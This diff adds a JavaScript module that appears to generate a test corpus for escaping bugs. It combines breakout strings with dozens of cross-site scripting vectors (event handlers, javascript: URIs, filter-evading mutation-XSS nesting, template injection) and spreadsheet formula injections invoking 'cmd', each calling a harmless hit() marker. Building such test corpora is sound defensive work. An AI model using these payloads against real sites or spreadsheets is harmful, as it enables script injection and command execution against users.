@@ -1,0 +1,91 @@
+// Texts that run a script wherever one is forgotten to be escaped: each calls `hit` with its own number.
+
+/** What a text may stand in, and has to leave first. */
+const WAYS_OUT = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  '-->',
+  ']]>',
+  '*/',
+  '</script>',
+  '</style>',
+  '</title>',
+  '</textarea>',
+  '</noscript>',
+  '</template>',
+  '</svg>',
+  '"/></a>',
+  '\\">',
+  '</option></select>',
+];
+
+/** @type {((call: string) => string)[]} */
+const ELEMENTS = [
+  (call) => `<script>${call}</script>`,
+  (call) => `<SCRIPT SRC="data:text/javascript,${call}"></SCRIPT>`,
+  (call) => `<scr\0ipt>${call}</scr\0ipt>`,
+  (call) => `<script x>${call}</script x>`,
+  (call) => `<img src=x onerror=${call}>`,
+  (call) => `<img/src=x/onerror=${call}>`,
+  (call) => `<img src=x onerror\n=\n"${call}">`,
+  (call) => `<IMG SRC=x OnErRoR=&#${call.charCodeAt(0)};${call.slice(1)}>`,
+  (call) => `<svg onload=${call}>`,
+  (call) => `<svg><script>${call}</script></svg>`,
+  (call) => `<svg><script href="data:,${call}"/></svg>`,
+  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
+  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
+  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
+  (call) => `<template><img src=x onerror=${call}></template>`,
+  (call) => `<details open ontoggle=${call}>x</details>`,
+  (call) => `<input autofocus onfocus=${call}>`,
+  (call) => `<video src=x onerror=${call}></video>`,
+  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
+  (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
+  (call) => `<a href="javascript:${call}">x</a>`,
+  (call) => `<a href="java&Tab;script:${call}">x</a>`,
+  (call) => `<a href=" &#1;javascript:${call}">x</a>`,
+  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
+  (call) => `<div style="background:url(javascript:${call})" onmouseover=${call}>x</div>`,
+  (call) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${call}>x</b>`,
+];
+
+/** @type {((call: string) => string)[]} */
+const TEXTS = [
+  (call) => `" autofocus onfocus="${call}" x="`,
+  (call) => `' autofocus onfocus='${call}' x='`,
+  (call) => `x onmouseover=${call} `,
+  (call) => `";${call};//`,
+  (call) => `';${call};//`,
+  (call) => `\\";${call};//`,
+  (call) => `\${${call}}`,
+  (call) => `\`;${call};//`,
+  (call) => `\u2028${call}//`,
+  (call) => `"}]}</script><script>${call}</script>`,
+  (call) => `<!--<script>${call}`,
+  (call) => `\\u003c/script\\u003e\\u003cscript\\u003e${call}`,
+  (call) => `javascript:${call}`,
+  (call) => `JaVa\tScRiPt:${call}`,
+  (call) => `data:text/html,<script>${call}</script>`,
+  (call) => `}</style><script>${call}</script>`,
+  (call) => `{{constructor.constructor('${call}')()}}`,
+  (call) => `<![CDATA[<script>${call}</script>]]>`,
+  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
+  (call) => `%3Cscript%3E${call}%3C/script%3E`,
+  (call) => `＜script＞${call}＜/script＞`,
+  (call) => `=HYPERLINK("javascript:${call}","x")`,
+  (call) => `+cmd|' /C ${call}'!A0`,
+  (call) => `-2+3+cmd|'${call}'!A0`,
+  (call) => `@SUM(1)*cmd|'${call}'!A0`,
+];
+
+/** All of them; the number that a text calls `hit` with is its place. */
+export const PAYLOADS = [
+  ...TEXTS,
+  ...WAYS_OUT.flatMap((out) => ELEMENTS.map((make) => (/** @type {string} */ call) => out + make(call))),
+].map((make, index) => make(`hit(${index})`));
